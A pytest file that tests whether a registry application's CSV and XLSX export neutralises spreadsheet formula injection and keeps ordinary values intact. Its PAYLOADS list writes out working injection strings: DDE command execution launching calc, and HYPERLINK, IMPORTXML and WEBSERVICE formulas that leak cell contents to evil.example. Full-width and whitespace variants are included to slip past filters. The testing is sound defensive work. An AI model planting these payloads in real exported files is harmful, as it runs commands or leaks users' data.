"""Whatever a spreadsheet could run is shown and never run, out and in (S30): the list of OWASP and its relatives."""

import csv
import io
from zipfile import ZipFile

import pytest
from openpyxl import load_workbook

from registry.imports import sheets
from registry.imports.inert import inert, plain

PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?leak="&A1,"Click")',
    '=IMPORTXML(CONCAT("http://evil.example?v=", CONCATENATE(A2:E2)), "//a/a10")',
    '=WEBSERVICE("http://evil.example")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\xa0=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "'=1+1",
    "''=1+1",
    '=DDE("cmd";"/C calc";"!A0")',
    '=1+1";=1+1',
    "%0A-3+3+cmd|' /C calc'!D2",
    "=-2+3+cmd|' /C calc'!E1",
]
RUNS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
HARMLESS = ["-5", "+77012345678", "-12.5", "12,5", "Общественный фонд «Мейирим»", "Қамқор - қоры", "", "'tis"]


def read(kind, content):
    return [row.cells for row in sheets.rows_of(io.BytesIO(content), most=100)]


def workbook(rows):
    file = io.BytesIO()
    sheets.write_workbook(file, rows, title="Rows")
    return file.getvalue()


@pytest.mark.parametrize("payload", PAYLOADS)
def test_s30_nothing_that_is_written_begins_as_a_formula(payload):
    [line] = csv.reader(io.StringIO(b"".join(sheets.csv_lines([[payload]])).decode("utf-8-sig")), delimiter=";")
    cell = load_workbook(io.BytesIO(workbook([[payload]]))).active["A1"]

    assert not line[0].lstrip(" \xa0\ufeff").startswith(RUNS)
    assert cell.data_type == "s"
    assert not cell.value.startswith(RUNS)


@pytest.mark.parametrize("kind", [sheets.CSV, sheets.XLSX])
@pytest.mark.parametrize("text", PAYLOADS + [text for text in HARMLESS if text])
def test_s30_what_goes_out_comes_back_as_it_was(kind, text):
    table = [["heading", "other"], [text, "x"]]
    content = b"".join(sheets.csv_lines(table)) if kind == sheets.CSV else workbook(table)

    # XML knows one sign for the end of a line.
    whole = text.replace("\r", "\n") if kind == sheets.XLSX else text
    assert read(kind, content)[1] == [whole, "x"]


@pytest.mark.parametrize("text", HARMLESS)
def test_numbers_and_words_stay_as_they_are(text):
    assert inert(text) == text
    assert plain(text) == text


@pytest.mark.parametrize("silent", ["\0=1+1", "\x01=1+1", "=\0cmd"])
def test_signs_that_nobody_sees_are_left_out(silent):
    assert inert(silent).startswith("'=")
    assert "\0" not in inert(silent)


def test_a_workbook_of_ours_holds_no_formula_at_all():
    with ZipFile(io.BytesIO(workbook([PAYLOADS]))) as parts:
        sheet = parts.read("xl/worksheets/sheet1.xml").decode()

    assert "<f>" not in sheet
